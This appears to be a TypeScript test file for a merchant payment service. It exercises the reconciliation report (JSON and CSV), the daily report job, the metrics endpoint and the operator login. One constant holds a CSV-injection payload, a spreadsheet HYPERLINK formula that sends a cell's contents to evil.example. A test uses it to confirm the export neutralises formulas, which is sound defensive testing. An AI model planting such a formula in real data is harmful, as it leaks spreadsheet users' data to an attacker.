import { expect } from 'chai';
import { parse as parseCsv } from 'csv-parse/sync';
import { REPORT_COLUMNS } from '../../../src/merchant/reports/reconciliation.js';
import {
  deliveriesOff,
  event,
  newOrder,
  paidOrder,
  post,
  processed,
  storedSecret,
  wire,
} from '../../support/events.js';
import { pressButton, startTestKit, type TestKit } from '../../support/kit.js';
import { freePort } from '../../support/process.js';

/**
 * merchant.md, HTTP interface: GET /reports/reconciliation (and the daily report job), GET /metrics,
 * and the operator's queue board behind its login. Against a test kit and its sandbox.
 */

const DAY = 24 * 60 * 60_000;
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Refund")';
/** A text field as the CSV writes it: one a spreadsheet would run as a formula starts with a quote. */
const asCsvText = (v: unknown) =>
  v === null
    ? ''
    : typeof v === 'string' && /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(v)
      ? `'${v}`
      : String(v);
const dayOf = (ms: number) => new Date(ms).toISOString().slice(0, 10);

describe('merchant: the reconciliation report', function () {
  this.timeout(60_000);
  let t: TestKit;
  let range: string;
  const ids: Record<string, string> = {};

  before(async () => {
    t = await startTestKit();
    const today = Math.floor(t.clock.now() / DAY) * DAY;
    range = `from=${dayOf(today)}&to=${dayOf(today + DAY)}`;
    ids.paid = (await paidOrder(t, '10.00')).id;
    // A capture of another amount than the order's: flagged, so mismatched.
    const flagged = await paidOrder(t, '20.00');
    ids.flagged = flagged.id;
    const other = event('transaction.captured', { ...wire(flagged.sale), amount: 1999 });
    expect((await post(t, other.body, await storedSecret(t))).status).to.equal(200);
    await processed(t, other.id);
    ids.unpaid = await newOrder(t, '5.00', 'USD');
    // A redirect paid on the hosted page while no webhook comes: the gateway last said pending.
    await deliveriesOff(t);
    ids.redirect = await newOrder(t, '30.00');
    const pay = await t.call('POST', `/orders/${ids.redirect}/pay/redirect`, {
      body: { payment_method: 'ideal', customer: { country_code: 'NL' } },
    });
    await pressButton(pay.body.data.next_action.url, 'pay');
  });
  after(async () => {
    await t?.close();
  });

  const report = (query: string, ops = true) => t.call('GET', `/reports/reconciliation?${query}`, { ops });
  // biome-ignore lint/suspicious/noExplicitAny: report rows as the JSON answer has them
  const rowOf = (rows: any[], id: string) => rows.find((r) => r.order_id === id)!;

  it('one row per order created in the range, classified, with totals per currency', async () => {
    const answer = await report(range);
    expect(answer.status, answer.text).to.equal(200);
    const { rows, totals } = answer.body.data;
    expect(rows).to.have.length(4);
    expect(rowOf(rows, ids.paid!)).to.include({
      status: 'paid',
      amount: 1000,
      amount_formatted: '10.00',
      captured_amount: 1000,
      gateway_status: 'captured',
      gateway_captured_amount: 1000,
      classification: 'matched',
      match: true,
    });
    expect(rowOf(rows, ids.flagged!)).to.include({ classification: 'mismatched', match: false });
    expect(rowOf(rows, ids.flagged!).reason).to.contain('differs');
    expect(rowOf(rows, ids.unpaid!)).to.include({ classification: 'matched', reason: 'not paid for yet' });
    expect(rowOf(rows, ids.redirect!)).to.include({
      status: 'requires_action',
      gateway_status: 'pending',
      observed_source: 'api',
      classification: 'in_flight',
    });
    expect(totals).to.deep.equal([
      {
        currency: 'EUR',
        orders: 3,
        captured: 3000,
        refunded: 0,
        net: 3000,
        in_flight: 1,
        mismatched: 1,
        resolved: 0,
        captured_formatted: '30.00',
        refunded_formatted: '0.00',
        disputed: 0,
        disputed_formatted: '0.00',
        net_formatted: '30.00',
      },
      {
        currency: 'USD',
        orders: 1,
        captured: 0,
        refunded: 0,
        net: 0,
        in_flight: 0,
        mismatched: 0,
        resolved: 0,
        captured_formatted: '0.00',
        refunded_formatted: '0.00',
        disputed: 0,
        disputed_formatted: '0.00',
        net_formatted: '0.00',
      },
    ]);
  });

  it('CSV: one header line of the documented columns, the same rows, quoted properly', async () => {
    const json = (await report(range)).body.data.rows;
    const csv = await report(`${range}&format=csv`);
    expect(csv.status).to.equal(200);
    expect(csv.headers.get('content-type')).to.match(/^text\/csv/);
    expect(csv.headers.get('content-disposition')).to.match(/attachment; filename="reconciliation-.*\.csv"/);
    const lines = csv.text.trimEnd().split('\n');
    expect(lines[0]).to.equal(REPORT_COLUMNS.join(','));
    const parsed = parseCsv(csv.text, { columns: true }) as Record<string, string>[];
    expect(parsed).to.have.length(json.length);
    for (const row of json) {
      const line = parsed.find((p) => p.order_id === row.order_id)!;
      for (const column of REPORT_COLUMNS) expect(line[column], column).to.equal(asCsvText(row[column]));
    }
    // The flagged row's reason has commas and quotes? It is quoted so it reads back whole.
    expect(parsed.find((p) => p.order_id === ids.flagged)!.reason).to.contain('differs');
  });

  it('refresh=true asks the gateway about what is not matched first: the redirect is paid and matched', async () => {
    const answer = await report(`${range}&refresh=true`);
    expect(rowOf(answer.body.data.rows, ids.redirect!)).to.include({
      status: 'paid',
      gateway_status: 'captured',
      observed_source: 'poll',
      classification: 'matched',
    });
    // The flagged one stays mismatched: a poll cannot undo a problem a person must look at.
    expect(rowOf(answer.body.data.rows, ids.flagged!).classification).to.equal('mismatched');
  });

  it('an empty range is an empty report; a bad from or to is 422 naming it; no token is 401', async () => {
    const empty = await report('from=2020-01-01&to=2020-01-02');
    expect(empty.status).to.equal(200);
    expect(empty.body.data).to.include({ from: '2020-01-01T00:00:00.000Z' });
    expect(empty.body.data.rows).to.deep.equal([]);
    expect(empty.body.data.totals).to.deep.equal([]);
    const emptyCsv = await report('from=2020-01-01&to=2020-01-02&format=csv');
    expect(emptyCsv.text.trimEnd().split('\n')).to.deep.equal([REPORT_COLUMNS.join(',')]);
    for (const [query, field] of [
      ['to=2026-11-24', 'from'],
      ['from=yesterday&to=2026-11-24', 'from'],
      // Not moved to a day that exists (Date.parse makes these March 2, Dec 1, Nov 2): refused.
      ['from=2026-02-30&to=2026-12-01', 'from'],
      ['from=2026-11-31&to=2026-12-02', 'from'],
      ['from=2026-11-01T24:00:00Z&to=2026-12-01', 'from'],
      ['from=2026-11-01&to=2026-11-01%2010:00%20PST', 'to'],
      ['from=2026-11-24&to=2026-11-23', 'to'],
      ['from=2026-11-23&to=2026-11-24&format=xml', 'format'],
      ['from=2026-11-23&to=2026-11-24&refresh=yes', 'refresh'],
    ] as const) {
      const answer = await report(query);
      expect(answer.status, query).to.equal(422);
      expect(Object.keys(answer.body.errors), query).to.deep.equal([field]);
    }
    expect((await report(range, false)).status).to.equal(401);
  });

  it('the daily job reports the day before: totals and mismatches to the log and the metrics', async () => {
    t.sandboxClock.advance(DAY); // tomorrow: today's orders are yesterday's
    const daily = await t.kit.jobs.dailyReport();
    expect(daily.rows).to.have.length(4);
    const lines = t.logs.filter((l) => l.includes('daily reconciliation'));
    expect(lines.some((l) => l.includes('"totals"'))).to.equal(true);
    const warning = lines.find((l) => l.includes('do not match the gateway'))!;
    expect(JSON.parse(warning)).to.include({ count: 1 });
    expect(JSON.parse(warning).orders).to.deep.equal([
      { order: ids.flagged, reason: rowOf(daily.rows, ids.flagged!).reason },
    ]);
    const metrics = (await t.call('GET', '/metrics')).text;
    expect(metrics).to.contain('kit_report_orders{currency="EUR",classification="mismatched"} 1');
    expect(metrics).to.contain('kit_report_orders{currency="USD",classification="matched"} 1');
  });

  it('CSV: a field that would run as a formula in a spreadsheet is written as text', async () => {
    // A reference a spreadsheet would run as a formula (CSV injection), taken by POST /orders as is.
    // Made here, last, so that the tests above count the orders they expect.
    const formula = await t.call('POST', '/orders', {
      body: { amount: '1.00', currency: 'EUR', reference: FORMULA },
      ops: true,
    });
    expect(formula.status, formula.text).to.equal(201);
    ids.formula = formula.body.data.order.id;
    // The day it was made on: the test above moved the clock on.
    const day = Math.floor(Date.parse(formula.body.data.order.created_at) / DAY) * DAY;
    const itsDay = `from=${dayOf(day)}&to=${dayOf(day + DAY)}`;
    const json = (await report(itsDay)).body.data.rows;
    expect(rowOf(json, ids.formula!).reference, 'the JSON keeps it as given').to.equal(FORMULA);
    const csv = await report(`${itsDay}&format=csv`);
    const parsed = parseCsv(csv.text, { columns: true }) as Record<string, string>[];
    expect(parsed.find((p) => p.order_id === ids.formula)!.reference).to.equal(`'${FORMULA}`);
  });
});

describe('merchant: GET /metrics', function () {
  this.timeout(60_000);
  let t: TestKit;
  let guarded: TestKit;
  let apart: TestKit;
  let metricsPort: number;
  before(async () => {
    t = await startTestKit();
    guarded = await startTestKit({ env: { METRICS_TOKEN: 'a-metrics-token-0123456789' } });
    metricsPort = await freePort();
    apart = await startTestKit({ env: { ROLES: 'worker,scheduler', METRICS_PORT: String(metricsPort) } });
  });
  after(async () => {
    await Promise.all([t?.close(), guarded?.close(), apart?.close()]);
  });

  it('the process, the receiver, the inbox, the queue, the observations, the budget, the health', async () => {
    await paidOrder(t, '10.00');
    expect((await post(t, '{"id": "x"}', 'whsec_not_the_secret_0123456789')).status).to.equal(401);
    await t.kit.jobs.checkHealth();
    await t.kit.jobs.poll();
    t.sandboxClock.advance(60_000); // the calls just made are the last complete minute's
    const answer = await t.call('GET', '/metrics');
    expect(answer.status).to.equal(200);
    expect(answer.headers.get('content-type')).to.match(/^text\/plain; version=0\.0\.4/);
    const text = answer.text;
    for (const line of [
      /^process_cpu_user_seconds_total \d/m,
      /^nodejs_eventloop_lag_seconds \d/m,
      /^kit_webhook_requests_total\{outcome="bad_signature"\} 1$/m,
      /^kit_webhook_request_duration_seconds_count \d+$/m,
      /^kit_inbox_oldest_unprocessed_seconds \d/m,
      /^kit_queue_jobs\{state="failed"\} 0$/m,
      /^kit_observations_total\{source="api",outcome="applied"\} [1-9]/m,
      /^kit_gateway_calls_last_minute\{caller="checkout"\} [1-9]/m,
      /^kit_gateway_rate_limit_remaining \d+$/m,
      /^kit_webhook_delivery_status\{status="healthy"\} 1$/m,
      /^kit_poll_orders_total\{result="polled"\} \d+$/m,
    ])
      expect(text).to.match(line);
  });

  it('with METRICS_TOKEN set, a bearer token is needed', async () => {
    expect((await guarded.call('GET', '/metrics')).status).to.equal(401);
    const ok = await guarded.call('GET', '/metrics', {
      headers: { authorization: 'Bearer a-metrics-token-0123456789' },
    });
    expect(ok.status).to.equal(200);
    expect(ok.text).to.contain('kit_webhook_requests_total');
  });

  it('METRICS_PORT serves them in any role: a worker and scheduler without an API port', async () => {
    const res = await fetch(`http://127.0.0.1:${metricsPort}/metrics`);
    expect(res.status).to.equal(200);
    expect(await res.text()).to.contain('kit_queue_jobs');
    expect((await fetch(`http://127.0.0.1:${metricsPort}/orders`)).status).to.equal(404);
  });

  it('METRICS_PORT without METRICS_TOKEN: open on that port only, never on the public API port', async () => {
    const port = await freePort([metricsPort]);
    const api = await startTestKit({ env: { ROLES: 'api', METRICS_PORT: String(port) } });
    try {
      expect((await api.call('GET', '/metrics')).status).to.equal(404);
      expect((await fetch(`http://127.0.0.1:${port}/metrics`)).status).to.equal(200);
    } finally {
      await api.close();
    }
  });
});

describe('merchant: the queue board behind the operator login', function () {
  this.timeout(60_000);
  let t: TestKit;
  before(async () => {
    t = await startTestKit();
  });
  after(async () => {
    await t?.close();
  });

  const login = (token: string) =>
    fetch(`${t.url}/ops/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: `token=${encodeURIComponent(token)}`,
      redirect: 'manual',
    });

  it('without the token: a browser is sent to the login, an API call is 401', async () => {
    const page = await fetch(`${t.url}/ops/queues`, { headers: { accept: 'text/html' }, redirect: 'manual' });
    expect(page.status).to.equal(302);
    expect(page.headers.get('location')).to.equal('/ops/login');
    const api = await fetch(`${t.url}/ops/queues/api/queues`, { headers: { accept: 'application/json' } });
    expect(api.status).to.equal(401);
    expect((await login('not-the-token')).status).to.equal(401);
  });

  it('the login sets a short-lived cookie for /ops; with it, or with the bearer token, the board opens', async () => {
    const answer = await login('test-ops-token-0123456789abcdefghij');
    expect(answer.status).to.equal(303);
    expect(answer.headers.get('location')).to.equal('/ops/queues');
    const cookie = answer.headers.get('set-cookie')!;
    expect(cookie).to.match(
      /^kit_ops=admin\.\d+\.[\w-]{16}\.[\w-]+; path=\/ops; expires=.*; samesite=strict; httponly$/i,
    );
    const session = cookie.split(';')[0]!;
    const board = await fetch(`${t.url}/ops/queues`, { headers: { cookie: session } });
    expect(board.status).to.equal(200);
    expect(await board.text()).to.contain('<title>');
    const queues = await fetch(`${t.url}/ops/queues/api/queues`, { headers: { cookie: session } });
    expect(queues.status).to.equal(200);
    expect(JSON.stringify(await queues.json())).to.contain('observations');
    const bearer = await fetch(`${t.url}/ops/queues/api/queues`, {
      headers: { authorization: 'Bearer test-ops-token-0123456789abcdefghij' },
    });
    expect(bearer.status).to.equal(200);
    // A forged or expired session opens nothing.
    const forged = await fetch(`${t.url}/ops/queues/api/queues`, {
      headers: { cookie: 'kit_ops=9999999999999.forged', accept: 'application/json' },
    });
    expect(forged.status).to.equal(401);
  });
});
